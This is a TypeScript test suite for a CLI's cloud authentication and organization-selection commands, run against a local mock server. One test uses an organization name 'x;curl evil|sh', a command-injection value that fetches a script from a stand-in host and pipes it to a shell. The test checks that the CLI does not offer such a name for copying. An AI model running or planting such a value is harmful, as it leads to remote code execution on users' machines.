import assert from 'node:assert/strict';
import { join } from 'node:path';
import { LOCAL_TOKEN } from '../../scripts/local-cloud/index.ts';
import { newOrganization } from '../../scripts/local-cloud/store.ts';
import { cloudIt, cloudItWith, SECRET } from '../support/cloud-session.ts';
import { assertMode } from '../support/systems.ts';

const CONFIG = '.config/botcli/config.json';
/** No account in the environment. */
const env = { BOTCLI_TOKEN: '', BOTCLI_ORG: '' };
const two = { accounts: { [LOCAL_TOKEN]: [newOrganization('acme'), newOrganization('beta')] } };
const none = { accounts: { [LOCAL_TOKEN]: [] } };
const login = 'cloud auth login --token-stdin';
const input = `${LOCAL_TOKEN}\n`;

const accountIt = cloudItWith(() => ({ env }));
const twoIt = cloudItWith(() => ({ env, cloud: two }));

describe('cloud auth', () => {
  accountIt('logs in with one request, and logs out', async ({ succeed, requests, directory, read, cloud }) => {
    assert.match(
      await succeed(login, { input }),
      /^✓ Logged in to http:\/\/127\.0\.0\.1:\d+\. The token is stored in .*config\.json\n {2}Organization: acme\n$/,
    );
    assert.deepEqual(requests(), ['GET /v1/organizations 200']);
    assert.deepEqual(JSON.parse(read(CONFIG)), { token: LOCAL_TOKEN, organization: 'acme', apiUrl: cloud.url });
    assertMode(join(directory, CONFIG), '600');
    assertMode(join(directory, '.config/botcli'), '700');
    const facts = /^Account: {7}dev@example\.com\nOrganization: {2}acme\nAPI: .*\nToken from: .*config\.json\n$/;
    assert.match(await succeed('cloud auth whoami', { env: { BOTCLI_API_URL: '' } }), facts);
    assert.match(await succeed('cloud auth logout'), /^✓ Logged out\. The token was removed from/);
    assert.deepEqual(JSON.parse(read(CONFIG)), {});
    assert.match(await succeed('cloud auth logout'), /^You weren't logged in\n$/);
  });

  cloudIt('removes the organization, even if no token is stored', { cloud: two }, async ({ succeed, read }) => {
    await succeed('cloud organizations select beta');
    assert.deepEqual(JSON.parse(read(CONFIG)), { organization: 'beta' });
    const removed = /^✓ Removed the organization from .*config\.json; no token was stored there\n$/;
    assert.match(await succeed('cloud auth logout'), removed);
    assert.deepEqual(JSON.parse(read(CONFIG)), {});
    await succeed('cloud organizations select beta');
    assert.equal(JSON.parse(await succeed('cloud auth logout --json')).logged_out, false);
    assert.deepEqual(JSON.parse(read(CONFIG)), {});
  });

  cloudIt('shows the organization in use', { env: { BOTCLI_ORG: '' }, cloud: two }, async ({ succeed, fail }) => {
    assert.match(await succeed('cloud auth whoami'), /\nOrganization: {2}none selected of acme, beta\n/);
    assert.match(await fail(2, 'cloud secrets list'), /No organization is selected/);
    await succeed('cloud organizations select beta');
    assert.match(await succeed('cloud auth whoami'), /\nOrganization: {2}beta\n/);
  });

  cloudIt('shows the only organization', { env: { BOTCLI_ORG: '' } }, async ({ succeed, run }) => {
    assert.match(await succeed('cloud auth whoami'), /\nOrganization: {2}acme, your only one\n/);
    assert.equal(JSON.parse(await succeed('cloud auth whoami --json')).organization, 'acme');
    assert.match((await run('cloud secrets list')).stderr, /Organization: acme/);
  });

  twoIt('prints results as JSON', async ({ succeed, directory, cloud }) => {
    const config = join(directory, CONFIG);
    const result = { organizations: ['acme', 'beta'], organization: null, api_url: cloud.url, config };
    const account = { user: 'dev@example.com', organization: 'beta', api_url: cloud.url, token: config };
    const organizations = [
      { name: 'acme', display_name: 'Acme', current: false },
      { name: 'beta', display_name: 'Beta', current: true },
    ];
    for (const [line, expected] of [
      [login, result],
      ['cloud organizations select beta', { organization: 'beta' }],
      ['cloud auth whoami', account],
      ['cloud organizations list', { organizations }],
      ['cloud auth logout', { logged_out: true, config }],
    ] as const)
      assert.deepEqual(JSON.parse(await succeed(`${line} --json`, { input })), expected);
  });

  const nobody =
    /^error: You aren't logged in to http:.*\(from BOTCLI_API_URL\)\nRun: botcli cloud auth login\n.*BOTCLI_TOKEN/;
  const noTerminal =
    /botcli can't ask, because this isn't a terminal: .*\nPipe the token into .* --token-stdin, or set BOTCLI_TOKEN/;
  const privateKey =
    /This is a private API key \(sk_…\), which is for programs, not a personal access token\n.*pcc_pat_/;
  const rejected =
    /The platform rejected the token: Unauthorized\nNothing was stored\. A personal access token begins with/;
  const nameless =
    /botcli can't ask, because this isn't a terminal\nPass its name: botcli cloud organizations select NAME/;
  const refusals: [line: string, input: string | undefined, code: 1 | 2, message: RegExp][] = [
    ['cloud secrets list', undefined, 1, nobody],
    ['cloud auth whoami', undefined, 1, /You aren't logged in/],
    ['cloud auth login', undefined, 2, noTerminal],
    [login, '', 2, /This isn't a token: it is empty/],
    [login, `pcc_pat_${SECRET}\n${SECRET}\n`, 2, /This isn't a token/],
    [login, `sk_${SECRET}`, 2, privateKey],
    [login, `pk_${SECRET}`, 2, /This is a public API key/],
    [login, `pcc_pat_${SECRET}`, 1, rejected],
    ['cloud organizations select', undefined, 2, nameless],
  ];
  for (const [line, input, code, message] of refusals) {
    accountIt(`refuses ${line} ${JSON.stringify(input ?? '').replaceAll(SECRET, '…')}`, async ({ fail, exists }) => {
      assert.match(await fail(code, line, { input }), message);
      assert(!exists(CONFIG));
    });
  }
});

describe('the organization', () => {
  cloudIt('defaults to the only one, and is printed', { env: { BOTCLI_ORG: '' } }, async ({ run }) => {
    assert.match((await run('cloud secrets list')).stderr, /^Organization: acme\n/);
  });

  twoIt('must be chosen if there are several', async ({ run, fail, succeed, cloud }) => {
    const { stderr } = await run(login, { input });
    assert.equal(stderr, 'Your organizations: acme, beta. Select one: botcli cloud organizations select acme\n');
    assert.match(
      await fail(2, 'cloud secrets list'),
      /No organization is selected; this account has acme, beta\nSelect one with botcli cloud organizations select, or pass it with -o/,
    );
    assert.match(
      await fail(1, 'cloud organizations select bta'),
      /no organization with that name\. Did you mean beta\?\nYour organizations: acme, beta/,
    );
    await succeed('cloud organizations select beta');
    assert.equal(await succeed('cloud organizations list'), 'acme\tAcme\t\nbeta\tBeta\tin use\n');
    const used = async (line: string, more = {}) => {
      await run(line, { env: more });
      return cloud.requests().at(-1);
    };
    assert.match((await used('cloud secrets list')) ?? '', /organizations\/beta\//);
    assert.match((await used('cloud secrets list', { BOTCLI_ORG: 'acme' })) ?? '', /organizations\/acme\//);
    assert.match((await used('cloud secrets list -o beta', { BOTCLI_ORG: 'acme' })) ?? '', /organizations\/beta\//);
    // Logging in again keeps the selected organization.
    assert.match(await succeed(login, { input }), /Organization: beta/);
  });

  cloudIt('may not exist', { env: { BOTCLI_ORG: '' }, cloud: none }, async ({ fail, run }) => {
    assert.match(await fail(1, 'cloud secrets list'), /This account has no organizations/);
    assert.equal((await run('cloud organizations list')).stderr, 'This account has no organizations.\n');
  });

  twoIt('can be selected with -o', async ({ succeed, fail, read }) => {
    await succeed(login, { input });
    for (const line of ['select -o beta', 'select --organization=beta beta', 'select beta -o beta']) {
      assert.match(await succeed(`cloud organizations ${line}`), /^✓ Selected organization beta/);
      assert.equal(JSON.parse(read(CONFIG)).organization, 'beta');
    }
    const both = await fail(2, 'cloud organizations select acme -o beta');
    assert.match(both, /^error: <name> and --organization differ\n/);
    assert.match(await fail(1, 'cloud organizations select -o bta'), /Did you mean beta\?/);
  });

  const evil = 'x;curl evil|sh';
  const offers: [names: string[], offer: string][] = [
    [[evil, 'acme'], `Your organizations: ${evil}, acme. Select one: botcli cloud organizations select acme\n`],
    [[evil, `${evil}2`], `Your organizations: ${evil}, ${evil}2. Select one: botcli cloud organizations select\n`],
    [[evil], `Your organizations: ${evil}. Select one: botcli cloud organizations select\n`],
  ];
  for (const [names, offer] of offers) {
    const title = `is only offered for copying if a shell takes it for a word: ${names.join(' and ')}`;
    const accounts = { [LOCAL_TOKEN]: names.map(name => newOrganization(name)) };
    cloudIt(title, { env, cloud: { accounts } }, async ({ run, read }) => {
      assert.equal((await run(login, { input })).stderr, offer);
      assert.equal(JSON.parse(read(CONFIG)).organization, undefined);
    });
  }
});
